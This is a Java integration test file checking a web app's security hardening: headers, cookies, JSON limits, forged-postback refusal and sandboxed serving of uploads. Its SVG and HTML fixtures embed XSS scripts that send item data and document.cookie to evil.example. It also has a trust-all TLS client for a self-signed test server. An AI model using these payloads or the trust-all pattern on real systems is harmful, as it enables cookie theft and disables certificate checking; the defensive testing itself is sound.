package org.dars.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;
import org.dars.Deployments;
import org.dars.Http;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The hardening that holds whoever is signed in: security headers on every kind of response,
 * cookies, active content served only as a sandboxed attachment, JSON limits, and forged Faces
 * postbacks refused.
 */
@ExtendWith(ArquillianExtension.class)
class HardeningIT {
  static final String SVG = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
      + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"60\">"
      + "<script>fetch('/api/v1/items').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>"
      + "<text x=\"10\" y=\"30\">نمودار آبیاری قطره‌ای</text></svg>";
  static final String HTML = "<!DOCTYPE html><html lang=\"ar\" dir=\"rtl\"><head><meta charset=\"utf-8\"><title>الري</title>"
      + "<script>document.cookie && fetch('https://evil.example/?' + document.cookie)</script></head>"
      + "<body><h1>صيانة شبكات الري بالتنقيط</h1><img src=x onerror=\"alert(1)\"></body></html>";

  @Deployment(testable = false)
  static WebArchive deployment() {
    return Deployments.dars();
  }

  @ArquillianResource URL base;
  private Http http;

  @BeforeEach
  void client() {
    http = new Http(base).asAdmin();
  }

  static void assertSecurityHeaders(HttpResponse<?> r, String what) {
    List<String> csp = r.headers().allValues("Content-Security-Policy");
    assertEquals(1, csp.size(), what + ": exactly one policy, got " + csp);
    assertFalse(csp.get(0).contains("unsafe-inline"), what + ": " + csp);
    assertTrue(csp.get(0).contains("frame-ancestors 'self'"), what + ": " + csp);
    assertEquals("nosniff", r.headers().firstValue("X-Content-Type-Options").orElse(null), what);
    assertEquals("same-origin", r.headers().firstValue("Referrer-Policy").orElse(null), what);
  }

  static JsonObject assertProblem(HttpResponse<String> r, int status, String type) {
    assertEquals(status, r.statusCode(), r.body());
    assertTrue(r.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"), r.headers().toString());
    JsonObject problem = Http.json(r.body());
    assertTrue(problem.getString("type").endsWith("/" + type), problem.toString());
    return problem;
  }

  private String anyItem() {
    return Http.json(http.get("api/v1/items?size=1").body()).getJsonArray("items").getJsonObject(0).getString("id");
  }

  @Test
  void everyKindOfResponseCarriesTheHeaders() {
    String item = anyItem();
    assertSecurityHeaders(http.get("api/v1/items"), "API");
    assertSecurityHeaders(http.get("api/v1/items/not-an-id"), "API error");
    assertSecurityHeaders(http.get("api/v1/no-such-thing"), "API 404");
    assertSecurityHeaders(http.get("p/items/" + item), "stable link page");
    assertSecurityHeaders(http.get("p/items/" + item, "Accept", "application/json"), "stable link JSON");
    assertSecurityHeaders(http.get("p/nothing"), "stable link error");
    assertSecurityHeaders(http.getBytes("api/v1/items/" + item + "/content"), "download");
    assertSecurityHeaders(http.get("search.xhtml?q=" + Http.q("خرما")), "Faces page");
    assertSecurityHeaders(http.get(""), "welcome page");
    assertSecurityHeaders(http.get("jakarta.faces.resource/dars.css.xhtml?ln=dars"), "page resource");
    assertSecurityHeaders(http.get("no-such-page.xhtml"), "Faces 404");
  }

  @Test
  void facesPagePolicyCarriesPrimeFacesNonceAndEveryScriptHasIt() {
    HttpResponse<String> page = http.get("curriculum.xhtml?id=" + anyCurriculum());
    String csp = page.headers().firstValue("Content-Security-Policy").orElseThrow();
    Matcher nonce = Pattern.compile("'nonce-([^']+)'").matcher(csp);
    assertTrue(nonce.find(), csp);
    assertTrue(csp.startsWith("default-src 'self'; script-src 'self' 'nonce-"), csp);
    Matcher script = Pattern.compile("<script(?![^>]*\\bsrc=)([^>]*)>").matcher(page.body());
    int inline = 0;
    while (script.find()) {
      inline++;
      assertTrue(script.group(1).contains("nonce=\"" + nonce.group(1) + "\""), "inline script without the nonce: " + script.group());
    }
    assertTrue(inline > 0, "the editor has PrimeFaces's inline scripts");
    assertFalse(Pattern.compile("\\son[a-z]+=\"").matcher(page.body()).find(), "no inline event handler is left in the page");
  }

  private String anyCurriculum() {
    return Http.json(http.get("api/v1/curricula").body()).getJsonArray("curricula").getJsonObject(0).getString("id");
  }

  @Test
  void forwardedProtoFromAClientIsNotBelievedButRealTlsGetsHstsAndSecureCookies() throws Exception {
    HttpResponse<String> claimed = http.get("curricula.xhtml", "X-Forwarded-Proto", "https");
    assertTrue(claimed.headers().firstValue("Strict-Transport-Security").isEmpty(), "HSTS on a plain-HTTP request");
    String plainCookie = claimed.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID")).findFirst().orElseThrow();
    assertTrue(plainCookie.contains("HttpOnly"), plainCookie);
    assertTrue(plainCookie.contains("SameSite=Lax"), plainCookie);
    assertFalse(plainCookie.toLowerCase(java.util.Locale.ROOT).contains("secure"), plainCookie);

    HttpResponse<String> tls = trustingClient().send(HttpRequest.newBuilder(
            URI.create("https://localhost:" + (base.getPort() + 363) + "/curricula.xhtml")).timeout(Duration.ofSeconds(60)).build(),
        HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    assertEquals(200, tls.statusCode());
    assertEquals("max-age=31536000", tls.headers().firstValue("Strict-Transport-Security").orElse(null));
    String cookie = tls.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID")).findFirst().orElseThrow();
    assertTrue(cookie.toLowerCase(java.util.Locale.ROOT).contains("; secure") && cookie.contains("HttpOnly")
        && cookie.contains("SameSite=Lax"), cookie);
    assertSecurityHeaders(tls, "TLS page");
  }

  /** The test server's certificate is WildFly's self-signed one. */
  private static HttpClient trustingClient() throws Exception {
    TrustManager trustAll = new javax.net.ssl.X509ExtendedTrustManager() {
      @Override public void checkClientTrusted(X509Certificate[] c, String a) {}
      @Override public void checkServerTrusted(X509Certificate[] c, String a) {}
      @Override public void checkClientTrusted(X509Certificate[] c, String a, java.net.Socket s) {}
      @Override public void checkServerTrusted(X509Certificate[] c, String a, java.net.Socket s) {}
      @Override public void checkClientTrusted(X509Certificate[] c, String a, javax.net.ssl.SSLEngine e) {}
      @Override public void checkServerTrusted(X509Certificate[] c, String a, javax.net.ssl.SSLEngine e) {}
      @Override public X509Certificate[] getAcceptedIssuers() {
        return new X509Certificate[0];
      }
    };
    SSLContext ssl = SSLContext.getInstance("TLS");
    ssl.init(null, new TrustManager[] {trustAll}, new SecureRandom());
    return HttpClient.newBuilder().sslContext(ssl).version(HttpClient.Version.HTTP_1_1).build();
  }

  @Test
  void uploadedSvgAndHtmlAreOnlyEverSandboxedAttachments() {
    for (String[] file : new String[][] {{"نمودار-آبیاری.svg", SVG}, {"صيانة-الري.html", HTML}}) {
      // Licensed like the sample library, so that searches other tests count over every item stay true.
      HttpResponse<String> created = http.upload("api/v1/items", file[0], file[1].getBytes(StandardCharsets.UTF_8),
          "{\"license\": \"CC-BY-4.0\"}");
      assertEquals(201, created.statusCode(), created.body());
      String id = Http.json(created.body()).getString("id");
      for (String path : new String[] {"api/v1/items/" + id + "/content", "api/v1/items/" + id + "/versions/1/content"}) {
        HttpResponse<byte[]> r = http.getBytes(path);
        assertEquals(200, r.statusCode());
        assertTrue(r.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment;"), path + " " + r.headers());
        assertEquals("application/octet-stream", r.headers().firstValue("Content-Type").orElse(null), path);
        String csp = r.headers().firstValue("Content-Security-Policy").orElse("");
        assertTrue(csp.startsWith("sandbox;"), csp);
        assertEquals(1, r.headers().allValues("Content-Security-Policy").size());
        assertEquals("nosniff", r.headers().firstValue("X-Content-Type-Options").orElse(null));
      }
      String link = Http.json(http.get("p/items/" + id, "Accept", "application/json").body()).getString("content");
      assertTrue(http.getBytes(link).headers().firstValue("Content-Disposition").orElse("").startsWith("attachment;"), link);
      for (String page : new String[] {"item.xhtml?id=" + id, "p/items/" + id}) {
        String body = http.get(page).body();
        assertFalse(Pattern.compile("<(img|iframe|object|embed|video|audio)[^>]*" + id + "[^>]*/content").matcher(body).find(),
            page + " embeds the active file live");
      }
    }
  }

  @Test
  void jsonBombsAndHugeBodiesAreProblemsNotCrashes() {
    String deep = "[".repeat(100_000) + "]".repeat(100_000);
    assertProblem(http.postJson("api/v1/curricula", deep), 400, "json-too-deep");
    assertProblem(http.postJson("api/v1/curricula", "{\"title\": " + "{\"fa\":".repeat(50_000)), 400, "json-too-deep");
    assertProblem(http.patch("api/v1/items/" + anyItem(), "application/merge-patch+json", deep), 400, "json-too-deep");
    assertProblem(http.upload("api/v1/items", "خرما.txt", "خرمای برحی".getBytes(StandardCharsets.UTF_8), deep), 400, "json-too-deep");
    String huge = "{\"title\": {\"fa\": \"" + "خ".repeat(3_000_000) + "\"}}";
    assertProblem(http.postJson("api/v1/curricula", huge), 413, "payload-too-large");
    HttpResponse<String> longTitle = http.postJson("api/v1/curricula", "{\"title\": {\"fa\": \"" + "ن".repeat(100_000) + "\"}}");
    assertTrue(longTitle.statusCode() == 400 || longTitle.statusCode() == 422, longTitle.statusCode() + " " + longTitle.body());
  }

  @Test
  void forgedFacesPostbackCreatesNothing() {
    int before = curriculaCount();
    HttpResponse<String> forged = http.post("curricula.xhtml", "application/x-www-form-urlencoded",
        ("create=create&create%3Atitle=" + Http.q("برنامه جعلی") + "&create%3Alanguage=fa&create%3Acreate-button=x"
            + "&jakarta.faces.ViewState=" + Http.q("-1234567890123456789:9876543210987654321")).getBytes(StandardCharsets.UTF_8));
    assertEquals(302, forged.statusCode(), "an unknown view state sends the browser back to a fresh page");
    assertEquals(before, curriculaCount(), "a forged postback created a curriculum");
  }

  private int curriculaCount() {
    return Http.json(http.get("api/v1/curricula?size=100").body()).getInt("total");
  }
}
